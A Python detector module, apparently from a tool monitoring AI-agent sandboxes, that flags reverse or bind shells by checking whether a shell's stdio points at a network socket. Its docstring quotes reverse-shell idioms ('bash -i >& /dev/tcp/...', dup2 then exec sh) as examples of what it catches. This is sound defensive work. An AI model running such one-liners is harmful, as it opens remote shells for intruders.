"""A shell whose stdin or stdout is a network socket: a reverse (or bind) shell (T1059.004).

On the launch of a shell (sh, bash, dash, zsh, ash, ksh, busybox sh...) the detector reads
``/proc/PID/fd/{0,1,2}``; an fd that is ``socket:[INODE]`` is looked up in the process's own
network namespace (``/proc/PID/net/tcp``, ``tcp6``, ``udp``, ``udp6``) to find the peer. A shell
with an inet socket on stdio is a critical alert naming the peer. Interpreters (python, perl,
ruby, php, node, lua) alert only when both stdin and stdout are inet sockets.

This does not depend on the command text, so it holds for self-written shells-over-sockets
(``os.dup2(s.fileno(), 0)`` then ``exec sh``). A shell that wires itself after its exec
(``bash -i >& /dev/tcp/h/p 0>&1`` typed as the tool's whole command) is caught by re-checks
at 50 ms, 300 ms, 1 s and 3 s after the launch (call :meth:`RevshellDetector.poll`
periodically), and at once when a network event of that pid arrives.
Unix-domain sockets (socketpairs of a supervisor) are not alerts.
"""

from __future__ import annotations

import os
import socket
import time
from collections import OrderedDict
from dataclasses import dataclass

from watchkeeper.alerts import Alert, Evidence, Severity
from watchkeeper.events import NetworkEvent, ProcessEvent

RULE_ID = "detector:revshell"
ATTACK = ("T1059.004",)
SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ash", "ksh", "mksh", "csh", "tcsh", "fish"})
INTERPRETERS = ("python", "perl", "ruby", "php", "node", "lua")
RECHECK_S = (0.05, 0.3, 1.0, 3.0)
_MAX_PENDING = 1024
_MAX_TABLE_BYTES = 4 * 1024 * 1024
_STATES = {"01": "established", "0A": "listen", "02": "syn_sent", "07": "close"}


@dataclass(frozen=True, slots=True)
class SocketPeer:
    """An inet socket found on a process's stdio.

    Attributes:
        fds: Which of 0, 1, 2 point at it.
        protocol: "tcp" or "udp".
        local_ip / local_port / remote_ip / remote_port: Its addresses.
        state: "established", "listen"...
    """

    fds: tuple[int, ...]
    protocol: str
    local_ip: str
    local_port: int
    remote_ip: str
    remote_port: int
    state: str

    def __str__(self) -> str:
        return (
            f"fd {','.join(map(str, self.fds))} -> {self.protocol} "
            f"{_hostport(self.local_ip, self.local_port)} -> "
            f"{_hostport(self.remote_ip, self.remote_port)} ({self.state})"
        )


@dataclass(slots=True)
class _Pending:
    event: ProcessEvent
    due: list[float]


class RevshellDetector:
    """Stdio of a shell wired to a network socket.

    Args:
        proc: The proc mount.
    """

    name = "revshell"

    def __init__(self, proc: str = "/proc") -> None:
        self._proc = proc
        self._pending: OrderedDict[int, _Pending] = OrderedDict()
        self._alerted: OrderedDict[tuple[int, float], None] = OrderedDict()

    def observe(self, event: object, now: float | None = None) -> list[Alert]:
        """Check a shell's launch; re-check on a network event of a pending pid."""
        alerts = self.poll(now)
        if isinstance(event, ProcessEvent):
            if event.activity == "terminate" and event.pid is not None:
                self._pending.pop(event.pid, None)
            elif event.activity == "launch" and event.pid is not None and _kind(event):
                alert = self._check(event)
                if alert is not None:
                    alerts.append(alert)
                else:
                    base = time.monotonic() if now is None else now
                    self._pending[event.pid] = _Pending(event, [base + d for d in RECHECK_S])
                    while len(self._pending) > _MAX_PENDING:
                        self._pending.popitem(last=False)
        elif isinstance(event, NetworkEvent) and event.pid is not None:
            pending = self._pending.get(event.pid)
            alert = self._check(pending.event) if pending is not None else None
            if alert is not None:
                del self._pending[event.pid]
                alerts.append(alert)
        return alerts

    def poll(self, now: float | None = None) -> list[Alert]:
        """Run the re-checks that are due (cheap when none are)."""
        if not self._pending:
            return []
        now = time.monotonic() if now is None else now
        alerts: list[Alert] = []
        for pid, pending in list(self._pending.items()):
            if not pending.due or pending.due[0] > now:
                continue
            while pending.due and pending.due[0] <= now:
                pending.due.pop(0)
            alert = self._check(pending.event)
            if alert is not None or not pending.due:
                del self._pending[pid]
            if alert is not None:
                alerts.append(alert)
        return alerts

    @property
    def pending(self) -> int:
        """Shells still waiting for a re-check."""
        return len(self._pending)

    def inspect(self, pid: int) -> list[SocketPeer]:
        """Inet sockets on fds 0, 1, 2 of ``pid`` (empty when none or when it is gone)."""
        inodes: dict[int, list[int]] = {}
        for fd in (0, 1, 2):
            try:
                target = os.readlink(f"{self._proc}/{pid}/fd/{fd}")
            except OSError:
                continue
            if target.startswith("socket:[") and target.endswith("]"):
                inodes.setdefault(int(target[8:-1]), []).append(fd)
        if not inodes:
            return []
        found: list[SocketPeer] = []
        for table, proto, v6 in (
            ("tcp", "tcp", False),
            ("tcp6", "tcp", True),
            ("udp", "udp", False),
            ("udp6", "udp", True),
        ):
            for inode, local, remote, state in _read_table(f"{self._proc}/{pid}/net/{table}", v6):
                if inode in inodes:
                    found.append(
                        SocketPeer(tuple(inodes.pop(inode)), proto, *local, *remote, state)
                    )
            if not inodes:
                break
        return found

    def _check(self, event: ProcessEvent) -> Alert | None:
        assert event.pid is not None
        peers = self.inspect(event.pid)
        kind = _kind(event)
        if not peers or kind is None:
            return None
        wired = {fd for p in peers for fd in p.fds}
        if kind == "interpreter" and not {0, 1} <= wired:
            return None
        key = (event.pid, event.ts)
        if key in self._alerted:
            return None
        self._alerted[key] = None
        while len(self._alerted) > _MAX_PENDING:
            self._alerted.popitem(last=False)
        peer = peers[0]
        net = NetworkEvent(
            ts=event.ts,
            run_id=event.run_id,
            episode_id=event.episode_id,
            step=event.step,
            tool_call_id=event.tool_call_id,
            sandbox_id=event.sandbox_id,
            source="revshell",
            pid=event.pid,
            activity="open",
            initiated=peer.state != "listen",
            protocol=peer.protocol,
            src_ip=peer.local_ip,
            src_port=peer.local_port,
            dst_ip=peer.remote_ip,
            dst_port=peer.remote_port,
            image=event.image,
            command_line=event.command_line,
        )
        shell = os.path.basename(event.image) or (event.argv[0] if event.argv else "")
        return Alert(
            rule_id=RULE_ID,
            title=f"Reverse shell: {shell} stdio wired to {_hostport(peer.remote_ip, peer.remote_port)}",
            severity=Severity.CRITICAL,
            attack=ATTACK,
            confidence=0.9,
            evidence=(
                Evidence(event=event, field="stdio", text="; ".join(str(p) for p in peers)),
                Evidence(event=net, field="peer", text=_hostport(peer.remote_ip, peer.remote_port)),
            ),
            description=f"{shell} (pid {event.pid}) has an inet socket on stdio: {peers[0]}",
            ts=event.ts,
            run_id=event.run_id,
            episode_id=event.episode_id,
            step=event.step,
            tool_call_id=event.tool_call_id,
            sandbox_id=event.sandbox_id,
            rule_source="detector",
            tags=("process", "network"),
        )


def _kind(event: ProcessEvent) -> str | None:
    """ "shell", "interpreter" or None for a launch event."""
    names = [os.path.basename(event.image)] if event.image else []
    if event.argv:
        names.append(os.path.basename(event.argv[0]).lstrip("-"))
    for name in names:
        if name in SHELLS:
            return "shell"
        if name == "busybox" and len(event.argv) > 1 and event.argv[1] in SHELLS:
            return "shell"
        if name.startswith(INTERPRETERS):
            return "interpreter"
    return None


def _read_table(path: str, v6: bool) -> list[tuple[int, tuple[str, int], tuple[str, int], str]]:
    try:
        with open(path, "rb") as fh:
            data = fh.read(_MAX_TABLE_BYTES)
    except OSError:
        return []
    rows = []
    for line in data.split(b"\n")[1:]:
        fields = line.split()
        if len(fields) < 10:
            continue
        try:
            local = _address(fields[1].decode(), v6)
            remote = _address(fields[2].decode(), v6)
            inode = int(fields[9])
        except (ValueError, OSError):
            continue
        state = fields[3].decode()
        rows.append((inode, local, remote, _STATES.get(state, state)))
    return rows


def _address(text: str, v6: bool) -> tuple[str, int]:
    host, port = text.split(":")
    raw = bytes.fromhex(host)
    if v6:
        raw = b"".join(raw[i : i + 4][::-1] for i in range(0, 16, 4))
        addr = socket.inet_ntop(socket.AF_INET6, raw)
        if addr.startswith("::ffff:") and "." in addr:
            addr = addr[7:]
    else:
        addr = socket.inet_ntop(socket.AF_INET, raw[::-1])
    return addr, int(port, 16)


def _hostport(ip: str, port: int) -> str:
    return f"[{ip}]:{port}" if ":" in ip else f"{ip}:{port}"
